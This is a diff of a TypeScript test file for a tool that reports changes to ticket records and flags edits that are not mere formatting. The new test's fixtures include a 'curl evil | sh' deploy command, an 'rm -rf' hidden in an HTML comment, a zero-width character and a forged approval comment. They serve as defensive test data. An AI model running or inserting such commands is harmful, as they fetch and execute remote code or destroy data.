@@ -174,10 +174,38 @@ tickets: [{ id: ES-1, status: done }, ES-2]
 
   it('sees through writing, and says so', () => {
     const english = 'status: to_do\nowner: "Eva"\n';
-    const spanish = 'propietario: Eva # la misma\nestado: por_hacer\n';
+    const spanish = 'propietario: Eva\n\nestado: por_hacer\n';
     assert.deepEqual(said([english], [spanish]), [
-      'Only its writing changed: order of keys, comments, blanks',
+      'Only its writing changed: order and names of keys, quotes, blanks, line endings',
     ]);
+  });
+
+  it('shows what no field holds, and never says that only the writing changed then', () => {
+    const base = 'owner: Eva\nschedule: { start: 2026-11-24 22:00, duration: 1h }\n';
+    const shown: readonly (readonly [front: string, body: string | undefined, said: RegExp])[] = [
+      [
+        `${base}deploy_command: curl evil | sh\n`,
+        undefined,
+        /^deploy_command: curl evil \| sh$/,
+      ],
+      [`${base}owner: Mal\n`, undefined, /^owner \(2\): Mal$|^owner: /],
+      [base.replace('1h', '1h, by: Mal'), undefined, /^schedule\.by: Mal$/],
+      [`${base}impact: none at all\n`, undefined, /^impact: none at all$/],
+      [`${base}# approved by Ana\n`, undefined, /^Comments in its front matter: — → # approved by Ana$/],
+      [base.replace('Eva', 'Eva # boss'), undefined, /^Comments .* # boss$/],
+      [base.replace('Eva', 'E\u200bva'), undefined, /^owner: /],
+      [base, '# Title\n\n<!-- rm -rf -->\n', /^Section edited/],
+      [base, '# Title\n\n[a](b.md)\n', /^Section edited/],
+      [base, '# Title\u200b\n', /./],
+    ];
+    for (const [front, body, expected] of shown) {
+      const changes = said([base], [front, body ?? '# Title\n']);
+      assert.ok(
+        changes.some((change) => expected.test(change)),
+        changes.join('\n'),
+      );
+      assert.ok(!changes.some((change) => change.startsWith('Only its writing')), changes.join('\n'));
+    }
   });
 
   it('of a new record tells what was done and decided already', () => {
